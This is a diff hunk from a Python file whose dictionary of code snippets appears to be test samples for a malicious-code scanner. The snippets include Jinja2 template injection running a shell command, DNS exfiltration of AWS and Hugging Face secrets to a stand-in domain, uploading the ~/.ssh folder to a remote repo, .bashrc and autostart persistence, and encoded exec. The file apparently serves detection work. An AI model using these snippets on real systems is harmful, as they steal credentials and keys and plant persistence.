@@ -60,7 +60,7 @@ _MODULES = {
     "template-under-a-name": "import jinja2\nT = \"{{ cycler.__init__.__globals__.os.popen('echo assay').read() }}\"\njinja2.Template(T).render()\n",
     "lookup-secret": "import os, socket\nsocket.gethostbyname(os.environ.get('AWS_SECRET_ACCESS_KEY', '') + '.assay.invalid')\n",
     "lookup-text": "import os, socket\nt = os.environ['HF_TOKEN']\nsocket.getaddrinfo('%s.assay.invalid' % t, 80)\n",
-    "upload-keys": "from huggingface_hub import HfApi, get_token\nHfApi(token=get_token()).upload_folder(folder_path='/root/.ssh', repo_id='assay/x')\n",
+    "upload-keys": "from huggingface_hub import HfApi, get_token\nHfApi(token=get_token()).upload_folder(folder_path='/home/user/.ssh', repo_id='assay/x')\n",
     "bashrc": "from pathlib import Path\np = Path.home() / '.bashrc'\nwith p.open('a') as f:\n    f.write('echo assay')\n",
     "autostart": "from pathlib import Path\nPath.home().joinpath('.config', 'autostart', 'x.desktop').write_text('x')\n",
     "exec-of-encoded-bytes": "exec(b'# coding: raw_unicode_escape\\nx = 1 #\\\\u000aimport os')\n",
